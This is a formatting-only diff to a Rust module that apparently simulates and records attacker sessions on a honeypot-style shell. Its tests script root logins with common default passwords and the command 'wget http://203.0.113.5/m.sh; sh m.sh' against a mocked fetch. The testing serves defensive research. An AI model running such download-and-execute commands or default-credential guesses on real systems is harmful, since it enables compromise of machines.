@@ -7,9 +7,7 @@
 //! [`SessionRecord`]. Examples and integration tests use it.
 
 use crate::auth::AuthPolicy;
-use crate::record::{
-    CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
-};
+use crate::record::{CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord};
 use crate::shell::{RemoteStore, Shell};
 use hutil::DateTime;
 use netsim::Ipv4Addr;
@@ -27,7 +25,11 @@ pub struct WireHandler<'s> {
 impl<'s> WireHandler<'s> {
     /// New handler over a fresh shell.
     pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
-        Self { policy, shell: Shell::new(store), commands: Vec::new() }
+        Self {
+            policy,
+            shell: Shell::new(store),
+            commands: Vec::new(),
+        }
     }
 }
 
@@ -42,7 +44,10 @@ impl ServerHandler for WireHandler<'_> {
 
     fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
         let outcome = self.shell.exec_line(command);
-        self.commands.push(CommandRecord { input: command.to_string(), known: outcome.known });
+        self.commands.push(CommandRecord {
+            input: command.to_string(),
+            known: outcome.known,
+        });
         let status = if outcome.known { 0 } else { 127 };
         (outcome.output.into_bytes(), status)
     }
@@ -134,9 +139,8 @@ mod tests {
 
     #[test]
     fn wire_session_produces_full_record() {
-        let fetch = |uri: &str| {
-            (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec())
-        };
+        let fetch =
+            |uri: &str| (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
         let script = ClientScript::new(
             "root",
             &["root", "admin"],
@@ -160,17 +164,14 @@ mod tests {
         use crate::session::{SessionInput, SessionSim};
         use netsim::latency::LatencyModel;
 
-        let fetch = |uri: &str| {
-            (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec())
-        };
-        let commands =
-            vec!["cd /tmp".to_string(), "wget http://203.0.113.5/m.sh; sh m.sh".to_string()];
+        let fetch =
+            |uri: &str| (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
+        let commands = vec![
+            "cd /tmp".to_string(),
+            "wget http://203.0.113.5/m.sh; sh m.sh".to_string(),
+        ];
 
-        let script = ClientScript::new(
-            "root",
-            &["root", "1234"],
-            &[&commands[0], &commands[1]],
-        );
+        let script = ClientScript::new("root", &["root", "1234"], &[&commands[0], &commands[1]]);
         let (wire_rec, _) =
             run_wire_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
 
@@ -194,7 +195,10 @@ mod tests {
         // The observable record content must be identical (timing differs).
         assert_eq!(wire_rec.logins.len(), bulk_rec.logins.len());
         for (w, b) in wire_rec.logins.iter().zip(&bulk_rec.logins) {
-            assert_eq!((w.username.as_str(), w.success), (b.username.as_str(), b.success));
+            assert_eq!(
+                (w.username.as_str(), w.success),
+                (b.username.as_str(), b.success)
+            );
         }
         assert_eq!(wire_rec.commands, bulk_rec.commands);
         assert_eq!(wire_rec.uris, bulk_rec.uris);
@@ -210,6 +214,9 @@ mod tests {
         assert!(rec.login_succeeded());
         assert_eq!(rec.accepted_username(), Some("phil"));
         assert!(rec.commands.is_empty());
-        assert!(!rec.file_events.iter().any(|e| matches!(e.op, FileOp::Created { .. })));
+        assert!(!rec
+            .file_events
+            .iter()
+            .any(|e| matches!(e.op, FileOp::Created { .. })));
     }
 }
